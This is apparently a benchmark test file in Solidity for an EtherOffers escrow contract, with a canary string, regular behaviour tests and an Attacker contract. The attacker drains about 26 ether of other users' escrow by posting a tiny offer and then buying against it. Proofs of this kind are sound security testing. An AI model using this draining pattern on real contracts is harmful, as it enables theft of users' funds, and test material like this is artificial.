pragma solidity 0.4.26;

import "./EtherOffers.sol";

// assay-canary-46291f45-b0bf-4cb2-aa4f-d7267523a4e3

contract Vm {
    function deal(address account, uint amount) public;
    function expectRevert() public;
    function prank(address sender) public;
    function startPrank(address sender) public;
    function stopPrank() public;
}

contract Coin {
    mapping(address => uint) public balanceOf;
    mapping(address => mapping(address => uint)) public allowance;

    constructor() public {
        balanceOf[msg.sender] = 1000000 ether;
    }

    function approve(address _spender, uint _value) public returns (bool) {
        allowance[msg.sender][_spender] = _value;
        return true;
    }

    function transfer(address _to, uint _value) public returns (bool) {
        return move(msg.sender, _to, _value);
    }

    function transferFrom(address _from, address _to, uint _value) public returns (bool) {
        if (allowance[_from][msg.sender] < _value || !move(_from, _to, _value)) return false;
        allowance[_from][msg.sender] -= _value;
        return true;
    }

    function move(address _from, address _to, uint _value) private returns (bool) {
        if (balanceOf[_from] < _value) return false;
        balanceOf[_from] -= _value;
        balanceOf[_to] += _value;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant GOV = address(0x60F);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin private coin;
    EtherOffers private offers;
    Attacker private mallory;

    function setUp() public {
        coin = new Coin();
        vm.prank(GOV);
        offers = new EtherOffers(Token(address(coin)));
        vm.deal(ANA, 40 ether);
        vm.deal(GOV, 1 ether);
        coin.transfer(BEN, 100000 ether);
        vm.prank(ANA);
        offers.offer.value(30 ether)(2000 ether);
        vm.prank(BEN);
        coin.approve(address(offers), 100000 ether);
        mallory = new Attacker(offers, coin);
        vm.deal(address(mallory), 1 ether);
        coin.transfer(address(mallory), 1000);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        offers.add.value(5 ether)(0);
        offers.offer.value(2 ether)(10 ** 30);
        offers.takeBack(1, 2 ether);
        vm.stopPrank();
        require(offers.escrowed() == 35 ether && ANA.balance == 5 ether);
        vm.prank(BEN);
        offers.buy(0, 4 ether);
        require(BEN.balance == 4 ether && coin.balanceOf(ANA) == 8000 ether + 1 && offers.escrowed() == 31 ether);
        vm.prank(BEN);
        offers.buy(0, 31 ether);
        require(offers.escrowed() == 0 && address(offers).balance == 0);
        vm.startPrank(GOV);
        require(address(offers).call.value(1 ether)());
        offers.sweep();
        require(GOV.balance == 1 ether);
        vm.stopPrank();
    }

    function test_RefusesOffers() public {
        vm.expectRevert();
        new EtherOffers(Token(0));
        vm.expectRevert();
        offers.offer(0);
        vm.expectRevert();
        offers.offer(10 ** 30 + 1);
    }

    function test_RefusesOthers() public {
        vm.expectRevert();
        offers.sweep();
        vm.expectRevert();
        offers.add(0);
        vm.startPrank(BEN);
        vm.expectRevert();
        offers.takeBack(0, 1 ether);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.deal(address(offers), 40 ether);
        vm.prank(BEN);
        vm.expectRevert();
        offers.buy(0, 30 ether + 1);
        vm.deal(BEN, 2 ether);
        vm.startPrank(BEN);
        offers.offer.value(1 ether)(1);
        vm.expectRevert();
        offers.takeBack(1, 2 ether);
        vm.stopPrank();
    }

    function test_RefusesTheUnpaid() public {
        vm.expectRevert();
        offers.buy(0, 1 ether);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 26 ether);
    }

    function target() public view returns (address) {
        return address(offers);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function() public payable {}
}

contract Attacker {
    EtherOffers private offers;

    constructor(EtherOffers _offers, Coin _coin) public {
        offers = _offers;
        _coin.approve(address(_offers), 1000);
    }

    function run() public {
        offers.offer.value(1 ether)(1);
        offers.buy(1, 31 ether);
    }

    function() public payable {}
}
